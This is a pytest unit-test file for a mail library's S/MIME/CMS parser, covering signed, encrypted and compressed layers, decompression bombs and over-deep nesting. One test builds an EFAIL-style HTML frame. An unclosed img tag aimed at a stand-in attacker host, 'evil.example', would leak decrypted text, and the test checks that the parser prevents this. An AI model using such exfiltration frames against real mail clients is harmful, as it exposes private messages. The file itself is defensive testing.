"""What a CMS holds comes out at its place: signed, locked, compressed, in any order."""

import zlib

import pytest
from asn1crypto import cms as asn1_cms

from mailbridge.demo import cms as maker
from mailbridge.demo import seals
from mailbridge.model.errors import Reason, RefusedError
from mailbridge.model.parcel import LockForm, LockWhy, SealForm
from mailbridge.parcel import cms
from tests.unit.parcel.locked import (
    NOW,
    PLAIN,
    WORDS,
    entity,
    envelope,
    file,
    folder,
    holder,
    mail,
    means,
    multipart,
)

US = holder("us")
TEXT = b"Content-Type: text/plain\r\n\r\nbeside\r\n"
PDF = b"%PDF-1.4\n%%EOF\n"


def signed(plain: bytes = PLAIN, *, opaque: bool = False) -> bytes:
    return seals.sign_mail(plain, US, NOW, opaque=opaque)


def compressed(plain: bytes, level: int = 9) -> bytes:
    inside = {"content_type": "data", "content": zlib.compress(plain, level)}
    data = {
        "version": "v0",
        "compression_algorithm": {"algorithm": "zlib"},
        "encap_content_info": inside,
    }
    info = asn1_cms.ContentInfo({"content_type": "compressed_data", "content": data})
    written: bytes = info.dump()
    return written


def locked(plain: bytes) -> bytes:
    return entity(envelope(plain, US))


def test_octets_that_are_no_cms_are_refused() -> None:
    with pytest.raises(RefusedError):
        cms.read(b"not a cms")


def test_an_opened_mail_is_bound_to_its_lock() -> None:
    parcel = mail(locked(PLAIN), means(folder(US)))
    assert [(lock.form, lock.coverage, lock.opened) for lock in parcel.locks] == [
        (LockForm.SMIME, "whole", True)
    ]
    assert [(text.text.strip(), text.unlocked_by) for text in parcel.texts] == [
        (WORDS.decode(), (0,))
    ]


def test_a_lock_beside_other_text_is_on_a_part() -> None:
    parcel = mail(multipart(TEXT, locked(PLAIN), TEXT), means(folder(US)))
    assert [lock.coverage for lock in parcel.locks] == ["part"]
    assert [text.unlocked_by for text in parcel.texts] == [(), (0,), ()]


def test_an_html_frame_around_a_lock_stays_apart_from_it() -> None:
    # EFAIL: the quoted address would carry the plain text to the attacker's server.
    head = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    tail = b'Content-Type: text/html\r\n\r\n">'
    parcel = mail(multipart(head, locked(PLAIN), tail), means(folder(US)))
    secret = [text for text in parcel.texts if WORDS.decode() in text.text]
    assert [(text.type, text.unlocked_by) for text in secret] == [("text/plain", (0,))]
    assert "evil" not in secret[0].text


@pytest.mark.parametrize("opaque", [True, False])
def test_a_seal_inside_a_lock_is_on_the_whole(opaque: bool) -> None:
    parcel = mail(locked(signed(opaque=opaque)), means(folder(US)))
    (claim,) = parcel.claims
    assert (claim.whole, claim.outside, claim.unlocked_by) == (True, False, (0,))
    assert claim.covers == (parcel.texts[0].path,)


@pytest.mark.parametrize("opaque", [True, False])
def test_a_seal_around_a_lock_is_on_the_ciphertext_alone(opaque: bool) -> None:
    parcel = mail(signed(locked(signed()), opaque=opaque), means(folder(US)))
    assert [(claim.whole, claim.outside) for claim in parcel.claims] == [
        (False, True),
        (True, False),
    ]


def test_a_clear_seal_inside_an_opaque_one_is_found() -> None:
    parcel = mail(signed(signed(), opaque=True))
    assert [claim.whole for claim in parcel.claims] == [True, True]
    assert len({text.path for text in parcel.texts}) == 1


def test_compressed_data_is_opened_in_any_order() -> None:
    inner = mail(locked(entity(compressed(signed()), "compressed-data")), means(folder(US)))
    outer = mail(signed(entity(compressed(PLAIN), "compressed-data")))
    assert [len(inner.texts), len(inner.claims)] == [1, 1]
    assert outer.claims[0].covers == (outer.texts[0].path,)


def test_a_compressed_bomb_is_refused() -> None:
    with pytest.raises(RefusedError) as refusal:
        mail(entity(compressed(bytes(80 * 1024 * 1024)), "compressed-data"))
    assert refusal.value.reason is Reason.BOMB


def test_compressed_data_that_is_cut_is_refused() -> None:
    with pytest.raises(RefusedError):
        mail(entity(compressed(PLAIN)[:-12] + bytes(12), "compressed-data"))


def test_a_file_in_a_signed_envelope_is_listed_under_its_seal() -> None:
    part = entity(maker.enclosed(PDF, US), "signed-data", "van-ban.pdf.p7m")
    parcel = mail(multipart(TEXT, part))
    (claim,), (listed,) = parcel.claims, parcel.files
    assert (claim.form, claim.on_file, claim.whole) == (SealForm.CMS, True, True)
    assert (listed.name, listed.type, claim.covers) == (
        "van-ban.pdf",
        "application/pdf",
        (listed.path,),
    )


def test_a_locked_file_is_listed_behind_its_lock() -> None:
    part = entity(envelope(PDF, US), name="van-ban.pdf.p7m")
    (listed,) = mail(multipart(TEXT, part), means(folder(US))).files
    assert (listed.name, listed.size, listed.unlocked_by) == ("van-ban.pdf", len(PDF), (0,))


def test_a_seal_over_nothing_stands_for_nothing() -> None:
    part = entity(maker.enclosed(b"", US), "signed-data")
    assert [claim.whole for claim in mail(part).claims] == [False]


def test_a_detached_signature_in_the_place_of_a_mail_has_no_content() -> None:
    (claim,) = mail(entity(maker.detached(PLAIN, US), "signed-data")).claims
    assert (claim.signed, claim.whole) == ("", False)


def test_certificates_alone_are_no_seal() -> None:
    info = asn1_cms.ContentInfo.load(maker.detached(PLAIN, US))
    info["content"]["signer_infos"] = []
    parcel = mail(entity(info.dump(force=True), "certs-only", "smime.p7c"))
    assert (parcel.claims, parcel.unsupported) == ((), ())
    assert [listed.name for listed in parcel.files] == ["smime.p7c"]


@pytest.mark.parametrize(("kind", "locks"), [("signed-data", 0), ("enveloped-data", 1)])
def test_a_broken_cms_in_a_mail_is_a_broken_seal_or_a_damaged_lock(kind: str, locks: int) -> None:
    parcel = mail(entity(b"\x30\x20broken", kind))
    assert [lock.why for lock in parcel.locks] == [LockWhy.DAMAGED] * locks
    assert len(parcel.claims) == 1 - locks
    assert "broken-cms" in parcel.problems


def test_another_kind_of_cms_is_named() -> None:
    data = {"version": "v0", "encrypted_content_info": {"content_type": "data"}}
    data["encrypted_content_info"] |= {"content_encryption_algorithm": {"algorithm": "rc4"}}  # type: ignore[operator]
    info = asn1_cms.ContentInfo({"content_type": "encrypted_data", "content": data})
    assert mail(entity(info.dump(), "other")).unsupported == (("1", "cms-other"),)


def test_bare_text_in_the_place_of_a_mail_is_its_text() -> None:
    parcel = mail(entity(maker.enclosed(WORDS, US), "signed-data"))
    assert [text.text for text in parcel.texts] == [WORDS.decode()]
    assert [(claim.form, claim.whole) for claim in parcel.claims] == [(SealForm.SMIME, True)]


def test_layers_without_end_are_refused() -> None:
    part = PLAIN
    for _ in range(8):
        part = signed(part, opaque=True)
    with pytest.raises(RefusedError) as refusal:
        mail(part)
    assert refusal.value.reason is Reason.TOO_DEEP


def test_a_name_of_a_gateway_does_not_hide_a_mail() -> None:
    part = signed(opaque=True).replace(b"application/pkcs7-mime", b"application/octet-stream")
    assert len(mail(part).claims) == 1


def test_a_file_given_alone_yields_its_mail() -> None:
    parcel = file(envelope(signed(), US), "smime.p7m", means(folder(US)))
    assert [text.unlocked_by for text in parcel.texts] == [(0,)]
    assert [claim.on_file for claim in parcel.claims] == [True]
